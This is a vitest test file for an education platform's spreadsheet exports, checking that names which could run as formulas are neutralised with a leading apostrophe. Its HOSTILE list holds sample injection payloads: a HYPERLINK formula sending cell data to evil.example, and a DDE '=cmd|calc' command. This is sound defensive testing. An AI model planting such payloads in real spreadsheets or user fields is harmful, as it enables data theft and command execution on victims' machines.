import type { ImportKind } from '@hoclieu/contracts';
import { makeUser } from '@hoclieu/db/testing';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { onlineShareWorkbook } from '../src/modules/reports/workbook.js';
import { type AssessmentWorld, createAssessmentWorld } from '../test/assessment-world.js';
import { testPasswordHash } from '../test/helpers.js';
import { figureOf, oneSchoolReport } from '../test/report-fixtures.js';
import { get } from '../test/world.js';

/**
 * Every spreadsheet the API writes, filled with names that a spreadsheet program would run as
 * formulas (=, +, -, @, tab, carriage return first): read back with ExcelJS, no cell is a formula
 * and every such text carries the leading apostrophe, while numbers (negative ones too) stay numbers.
 */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
  '+84 912 345 678',
  '-2+3',
  '@SUM(1+1)',
  '\t=cmd|calc',
  '\r=1+1',
];
const RUNNABLE = /^[=+\-@\t\r]/;
const PLAIN_NEGATIVE = /^-\d+(?:[.,]\d+)?$/;

/** Every cell of every sheet: none is a formula, no text would run as one. */
function expectNeutral(book: ExcelJS.Workbook, label: string): string[] {
  const texts: string[] = [];
  book.eachSheet((sheet) => {
    sheet.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${label} ${sheet.name}!${cell.address}`;
        expect(cell.type, `${where} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') {
          texts.push(cell.value);
          if (!PLAIN_NEGATIVE.test(cell.value))
            expect(cell.value, `${where} would run as a formula`).not.toMatch(RUNNABLE);
        }
      });
    });
  });
  return texts;
}

async function readBook(bytes: Buffer | string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Uint8Array.from(Buffer.from(bytes as Buffer)).buffer);
  return book;
}

let a: AssessmentWorld;
beforeAll(async () => {
  a = await createAssessmentWorld();
  const { t, w } = a;
  const passwordHash = await testPasswordHash();
  // Students and a class named like formulas (a username cannot be imported so, but may exist).
  for (const [i, fullName] of HOSTILE.entries()) {
    const user = await makeUser(t.db, 'student', {
      schoolId: w.school.id,
      passwordHash,
      fullName,
      username: i === 0 ? '@hs.0' : `hs.${i}`,
    });
    await t.db.enrollment.create({ data: { studentId: user.id, classId: w.schoolClass.id } });
  }
  await t.db.class.update({ where: { id: w.schoolClass.id }, data: { name: '=6A+1' } });
  await t.db.school.update({ where: { id: w.school.id }, data: { name: HOSTILE[0] as string } });
  await t.db.school.update({ where: { id: w.sameDistrictSchool.id }, data: { name: HOSTILE[3] as string } });
  await t.db.district.update({ where: { id: w.districtA.id }, data: { name: HOSTILE[4] as string } });
});
afterAll(() => a.t.close());

describe('formula injection in exported spreadsheets', () => {
  it('neutralises student, class and username text in the results workbook', async () => {
    const exam = await a.examWithVersion('f');
    const assignment = await a.assign(exam.id);
    const file = await get(a.w.teacher.client, `/api/assignments/${assignment.id}/results.xlsx`);
    expect(file.statusCode, file.body.slice(0, 300)).toBe(200);
    const book = await readBook(file.rawPayload);
    const texts = expectNeutral(book, 'results.xlsx');
    // XML reads a carriage return back as a line feed.
    const lines = (text: string) => text.replace(/\r\n?/g, '\n');
    for (const name of [...HOSTILE, '@hs.0', '=6A+1']) expect(texts.map(lines)).toContain(lines(`'${name}`));
    // Numbers stay numbers (row number, maximum score).
    const row = book.worksheets[0]?.getRow(2);
    expect(typeof row?.getCell(1).value).toBe('number');
    expect(typeof row?.getCell(8).value).toBe('number');
  });

  it('neutralises school and district names in the online-share workbook', async () => {
    const file = await get(
      a.w.districtOfficer.client,
      '/api/reports/online-share.xlsx?schoolYear=2026-2027&asOf=2027-05-31',
    );
    expect(file.statusCode, file.body.slice(0, 300)).toBe(200);
    const texts = expectNeutral(await readBook(file.rawPayload), 'online-share.xlsx');
    expect(texts).toContain(`'${HOSTILE[0]}`);
    expect(texts).toContain(`'${HOSTILE[3]}`);
    expect(texts).toContain(`'${HOSTILE[4]}`);
  });

  it('keeps negative figures as numbers in the online-share workbook', async () => {
    const report = oneSchoolReport({
      unitName: '-Phòng GDĐT',
      schoolName: '@Trường',
      figure: figureOf(10, 100, 0.3, 'below', '=10/100'),
      level: 'lower_secondary',
      monthly: [{ month: '2026-09', online: -1 }],
    });
    const book = await readBook(await onlineShareWorkbook(report));
    const texts = expectNeutral(book, 'online-share.xlsx (direct)');
    expect(texts).toEqual(expect.arrayContaining(["'-Phòng GDĐT", "'@Trường", "'=10/100"]));
    // The gap to the target (share - target) is negative and stays a number.
    const gap = book.getWorksheet('Tổng hợp')?.getRow(2).getCell(6).value;
    expect(gap).toBeCloseTo(-0.2, 5);
    expect(book.getWorksheet('Theo tháng')?.getRow(2).getCell(2).value).toBe(-1);
  });

  it('writes import templates (.xlsx and .csv) without formulas', async () => {
    const kinds: ImportKind[] = ['schools', 'classes', 'teachers', 'students'];
    for (const kind of kinds) {
      const xlsx = await get(a.w.systemAdmin.client, `/api/imports/${kind}/template?format=xlsx`);
      expect(xlsx.statusCode).toBe(200);
      expectNeutral(await readBook(xlsx.rawPayload), `${kind}.xlsx`);
      const csv = await get(a.w.systemAdmin.client, `/api/imports/${kind}/template?format=csv`);
      expect(csv.statusCode).toBe(200);
      const cells = csv.body
        .replace(/^\uFEFF/, '')
        .split(/\r\n/)
        .flatMap((line) => line.split(','))
        .map((cell) => cell.replace(/^"|"$/g, ''));
      for (const cell of cells)
        if (!PLAIN_NEGATIVE.test(cell)) expect(cell, `${kind}.csv`).not.toMatch(RUNNABLE);
    }
  });
});
